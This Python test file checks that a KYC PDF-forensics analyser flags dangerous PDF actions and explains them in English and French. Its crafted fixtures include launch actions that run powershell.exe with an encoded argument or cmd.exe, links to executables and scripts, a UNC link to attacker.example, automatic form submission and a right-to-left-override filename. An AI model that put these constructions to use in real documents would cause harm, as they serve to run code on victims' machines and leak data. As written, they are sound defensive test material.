"""Actions a PDF asks its reader to perform: launching a program, links to programs, actions
that run without a click, form data sent away, other files opened, multimedia played. Each is
flagged, with a reason the analyst reads in their language; navigation and web links clicked
are not.

The files are real PDFs written with pypdf (tests/analysis/crafted_pdfs.py).
"""

from __future__ import annotations

import pytest
from django.urls import reverse

from kyc.analysis.findings import flag
from kyc.analysis.pdf import analyse_pdf
from kyc.models import Report
from kyc.services import jobs
from tests.analysis import crafted_pdfs as pdfs
from tests.factories import make_customer, make_document


def flagged(data: bytes) -> dict[str, str]:
    """{code: level} of the findings that are not informational."""
    return {f.code: f.level for f in analyse_pdf(data, kind="bank_statement").findings if f.level}


def submit_form(url: str):
    return pdfs.pdf_dict(S="/SubmitForm", F=pdfs.pdf_dict(FS="/URL", F=url))


CASES = {
    "launch-on-open": (pdfs.open_action(pdfs.launch()), "launch_action", "fraudulent"),
    "launch-on-page-open": (
        pdfs.page_event("/O", pdfs.launch("powershell.exe", "-enc SQBFAFgA"), page=2),
        "launch_action",
        "fraudulent",
    ),
    "launch-on-link-click": (pdfs.link(pdfs.launch()), "launch_action", "fraudulent"),
    "launch-chained-after-a-goto": (
        pdfs.open_action(pdfs.pdf_dict(S="/GoTo", D="/First", Next=pdfs.launch())),
        "launch_action",
        "fraudulent",
    ),
    "link-to-an-exe": (
        pdfs.link(pdfs.uri("https://cdn.example.net/dl/Facture_2026.pdf.exe?id=9")),
        "executable_link",
        "fraudulent",
    ),
    "link-to-a-script-on-a-share": (
        pdfs.link(pdfs.uri("file:///C:/Users/Public/update.ps1")),
        "executable_link",
        "fraudulent",
    ),
    "web-page-opened-on-open": (
        pdfs.open_action(pdfs.uri("https://tracker.example.com/pixel?doc=42")),
        "automatic_action",
        "suspicious",
    ),
    "web-page-opened-on-mouse-over": (
        pdfs.link(pdfs.uri("https://www.banque.example/"), hover=pdfs.uri("https://x.example/")),
        "automatic_action",
        "suspicious",
    ),
    "web-page-opened-when-the-file-closes": (
        pdfs.document_event("/WC", pdfs.uri("https://x.example/bye")),
        "automatic_action",
        "suspicious",
    ),
    "submit-form-on-field-blur": (
        pdfs.field_event("/Bl", submit_form("https://collect.example.org/form")),
        "form_submission",
        "suspicious",
    ),
    "import-data-on-open": (
        pdfs.open_action(pdfs.pdf_dict(S="/ImportData", F="values.fdf")),
        "form_submission",
        "suspicious",
    ),
    "goto-remote-file-on-print": (
        pdfs.document_event("/WP", pdfs.pdf_dict(S="/GoToR", F="\\\\10.0.0.5\\share\\x.pdf")),
        "remote_file_action",
        "suspicious",
    ),
    "goto-embedded-in-another-file": (
        pdfs.link(pdfs.pdf_dict(S="/GoToE", F="other.pdf")),
        "remote_file_action",
        "suspicious",
    ),
    "unc-link": (
        pdfs.link(pdfs.uri("\\\\attacker.example\\share\\statement.pdf")),
        "remote_file_action",
        "suspicious",
    ),
    "rendition-on-page-open": (
        pdfs.page_event("/O", pdfs.pdf_dict(S="/Rendition", OP=pdfs.NumberObject(0))),
        "rich_media",
        "suspicious",
    ),
    "rich-media-annotation": (pdfs.annotation("/RichMedia"), "rich_media", "suspicious"),
    "unknown-action-on-open": (
        pdfs.open_action(pdfs.pdf_dict(Type="/Action", S="/RunSomething")),
        "automatic_action",
        "suspicious",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_dangerous_actions_are_flagged(case):
    data, code, level = CASES[case]

    assert flagged(data).get(code) == level, flagged(data)
    assert flag(analyse_pdf(data).findings)[0] == ("red" if level == "fraudulent" else "orange")


@pytest.mark.parametrize(
    "data",
    [
        pdfs.statement_pdf(),
        pdfs.opens_at_first_page(),
        pdfs.link(pdfs.uri("https://www.banque.example/contact")),
        pdfs.link(pdfs.uri("mailto:service@banque.example")),
        pdfs.open_action(pdfs.pdf_dict(S="/Named", N="/FirstPage")),
    ],
    ids=["plain", "open-at-page-1", "web-link-clicked", "mailto-link", "named-first-page"],
)
def test_navigation_and_clicked_web_links_stay_green(data):
    assert flagged(data) == {}


def test_a_launch_action_says_what_it_runs_and_when():
    result = analyse_pdf(pdfs.open_action(pdfs.launch("cmd.exe", "/c calc.exe")))

    [finding] = [f for f in result.findings if f.code == "launch_action"]
    assert finding.detail == (
        "the document asks the PDF reader to run cmd.exe /c calc.exe when it is opened"
    )
    assert finding.criteria["actions"] == [
        {"type": "/Launch", "trigger": "open", "target": "cmd.exe /c calc.exe"}
    ]
    assert result.facts.as_dict()["actions"] == finding.criteria["actions"]


def test_several_actions_of_a_kind_make_one_finding_that_counts_them():
    writer = pdfs.statement_writer()
    writer._root_object[pdfs.name("/OpenAction")] = writer._add_object(pdfs.launch("a.exe"))
    for page in writer.pages:
        page[pdfs.name("/AA")] = pdfs.pdf_dict(C=pdfs.launch("b.exe"))

    [finding] = [f for f in analyse_pdf(pdfs.written(writer)).findings if f.code == "launch_action"]

    assert finding.criteria["count"] == 4
    assert finding.detail.endswith("; and 3 more of this kind")


def test_a_javascript_link_is_javascript():
    data = pdfs.link(pdfs.uri("javascript:app.launchURL('https://x.example')"))

    assert flagged(data) == {"javascript": "suspicious"}


def test_a_hidden_character_in_a_target_cannot_reorder_the_reason():
    data = pdfs.link(pdfs.uri("https://x.example/\u202efdp.exe"))

    [finding] = [f for f in analyse_pdf(data).findings if f.code == "executable_link"]

    assert "\u202e" not in finding.detail
    assert "https://x.example/fdp.exe" in finding.detail


@pytest.mark.django_db
def test_the_reason_is_shown_in_the_readers_language(client, analyst, settings):
    """Through the real engine job and report page: English, then French."""
    customer = make_customer(actor=analyst)
    document = make_document(
        customer=customer,
        content=pdfs.open_action(pdfs.launch("cmd.exe", "/c calc.exe")),
        name="statement.pdf",
        kind="bank_statement",
        actor=analyst,
    )
    jobs.job_submit(document.jobs.get(provider="local").pk)
    report = Report.objects.get(document=document, source="local_forensics")
    assert report.flag_color == "red"
    client.force_login(analyst)
    url = reverse("kyc:report-detail", args=[report.pk])

    english = client.get(url).text
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "fr"
    french = client.get(url).text

    assert "Launch action" in english
    assert "the document asks the PDF reader to run cmd.exe /c calc.exe when it is opened" in (
        english
    )
    assert "Action de lancement" in french
    assert (
        "le document demande au lecteur PDF d\N{RIGHT SINGLE QUOTATION MARK}exécuter "
        "cmd.exe /c calc.exe à son ouverture"
    ) in french
